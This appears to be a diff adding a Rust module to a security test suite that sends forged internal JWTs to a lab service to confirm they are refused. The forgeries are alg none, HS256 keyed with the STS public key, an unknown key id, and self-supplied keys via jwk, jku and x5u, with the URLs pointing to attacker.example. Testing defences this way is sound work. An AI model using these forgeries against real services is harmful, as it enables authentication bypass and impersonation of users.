@@ -1,0 +1,160 @@
+//! Forged internal tokens (RFC 8725 §2.1–2.2, §3.1): the classic JWT tricks, presented straight
+//! to a service from inside the mesh (with the gateway's identity, which the service does let in),
+//! as an attacker who got that far would.
+//!
+//! - `alg: none`, no signature;
+//! - algorithm confusion: HS256 with the STS's *public* key as the HMAC secret;
+//! - a key id the STS never published, signed with the attacker's own key;
+//! - a header that brings its own key: `jwk` (the key itself), `jku` and `x5u` (where to fetch it).
+//!
+//! The verifier takes the algorithm and the key from its own configuration and the STS's JWKS only
+//! (`libs/token/src/verifier.rs`), so each is refused; with `token.signature` off in lab mode, each
+//! is believed, except `alg: none`, which jsonwebtoken cannot even parse.
+
+use base64::Engine;
+use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+use baton_platform::Control;
+use baton_platform::Workload;
+use baton_platform::demo::ALICE;
+use baton_testkit::TestPlatform;
+use ed25519_dalek::SigningKey;
+use ed25519_dalek::pkcs8::EncodePrivateKey;
+use jsonwebtoken::jwk::{AlgorithmParameters, Jwk, JwkSet};
+use jsonwebtoken::{Algorithm, EncodingKey, Header};
+use reqwest::StatusCode;
+use serde_json::Value;
+
+use crate::attacks::{Attack, AttackFuture, Outcome};
+use crate::risk::OwaspRisk;
+
+/// The forgery attacks, for the catalogue.
+pub fn catalogue() -> Vec<Attack> {
+    use OwaspRisk::Api2Authentication;
+    let attack = |name, run| Attack {
+        name,
+        risk: Api2Authentication,
+        controls: &[Control::TokenSignature],
+        run,
+    };
+    vec![
+        // jsonwebtoken has no `none` algorithm at all: such a header does not even parse, so no
+        // lab switch can let this one through. It is refused by construction.
+        Attack {
+            name: "JWT with alg none",
+            risk: Api2Authentication,
+            controls: &[],
+            run: alg_none,
+        },
+        attack(
+            "JWT signed HS256 with the STS's public key",
+            hmac_with_public_key,
+        ),
+        attack("JWT with a key id the STS never published", unknown_kid),
+        attack("JWT bringing its own key in jwk, jku and x5u", embedded_key),
+    ]
+}
+
+/// Does users' `/v1/users/me`, called from inside with `token`, answer as alice?
+async fn answers_as_alice(platform: &TestPlatform, token: &str) -> anyhow::Result<Outcome> {
+    let client = platform.client_as(Workload::Gateway, Workload::Users)?;
+    let response = client
+        .get(format!("{}/v1/users/me", platform.users_url))
+        .bearer_auth(token)
+        .send()
+        .await?;
+    let status = response.status();
+    let body: Value = response.json().await.unwrap_or(Value::Null);
+    let evidence = format!(
+        "{status}: {}",
+        body.to_string().chars().take(160).collect::<String>()
+    );
+    Ok(if status == StatusCode::OK && body["username"] == "alice" {
+        Outcome::Succeeded(evidence)
+    } else {
+        Outcome::Blocked(evidence)
+    })
+}
+
+/// The STS's published keys, as anyone can fetch them through the gateway.
+async fn published_keys(platform: &TestPlatform) -> anyhow::Result<JwkSet> {
+    Ok(platform
+        .http
+        .get(format!("{}/.well-known/jwks.json", platform.gateway_url))
+        .send()
+        .await?
+        .json()
+        .await?)
+}
+
+/// An Ed25519 key the attacker made, as a signing key and as a JWK.
+fn attackers_key() -> anyhow::Result<(EncodingKey, Jwk)> {
+    let signing = SigningKey::generate(&mut rand::rngs::OsRng);
+    let der = signing.to_pkcs8_der()?;
+    let encoding = EncodingKey::from_ed_der(der.as_bytes());
+    let x = URL_SAFE_NO_PAD.encode(signing.verifying_key().as_bytes());
+    let jwk: Jwk = serde_json::from_value(serde_json::json!({
+        "kty": "OKP", "crv": "Ed25519", "x": x, "kid": "attacker-key", "alg": "EdDSA",
+    }))?;
+    Ok((encoding, jwk))
+}
+
+fn alg_none(platform: &TestPlatform) -> AttackFuture<'_> {
+    Box::pin(async move {
+        let kid = published_keys(platform)
+            .await?
+            .keys
+            .first()
+            .and_then(|key| key.common.key_id.clone())
+            .unwrap_or_default();
+        let header = serde_json::json!({ "alg": "none", "typ": "JWT", "kid": kid });
+        let token = format!(
+            "{}.{}.",
+            URL_SAFE_NO_PAD.encode(serde_json::to_vec(&header)?),
+            URL_SAFE_NO_PAD.encode(serde_json::to_vec(&platform.claims_for(ALICE))?)
+        );
+        answers_as_alice(platform, &token).await
+    })
+}
+
+fn hmac_with_public_key(platform: &TestPlatform) -> AttackFuture<'_> {
+    Box::pin(async move {
+        let keys = published_keys(platform).await?;
+        let key = keys
+            .keys
+            .first()
+            .ok_or_else(|| anyhow::anyhow!("the STS publishes no key"))?;
+        let AlgorithmParameters::OctetKeyPair(params) = &key.algorithm else {
+            anyhow::bail!("the STS's key is not an OKP key");
+        };
+        let mut header = Header::new(Algorithm::HS256);
+        header.kid = key.common.key_id.clone();
+        let token = jsonwebtoken::encode(
+            &header,
+            &platform.claims_for(ALICE),
+            &EncodingKey::from_secret(params.x.as_bytes()),
+        )?;
+        answers_as_alice(platform, &token).await
+    })
+}
+
+fn unknown_kid(platform: &TestPlatform) -> AttackFuture<'_> {
+    Box::pin(async move {
+        let (key, _) = attackers_key()?;
+        let mut header = Header::new(Algorithm::EdDSA);
+        header.kid = Some("attacker-key".to_owned());
+        let token = jsonwebtoken::encode(&header, &platform.claims_for(ALICE), &key)?;
+        answers_as_alice(platform, &token).await
+    })
+}
+
+fn embedded_key(platform: &TestPlatform) -> AttackFuture<'_> {
+    Box::pin(async move {
+        let (key, jwk) = attackers_key()?;
+        let mut header = Header::new(Algorithm::EdDSA);
+        header.jwk = Some(jwk);
+        header.jku = Some("https://attacker.example/jwks.json".to_owned());
+        header.x5u = Some("https://attacker.example/cert.pem".to_owned());
+        let token = jsonwebtoken::encode(&header, &platform.claims_for(ALICE), &key)?;
+        answers_as_alice(platform, &token).await
+    })
+}
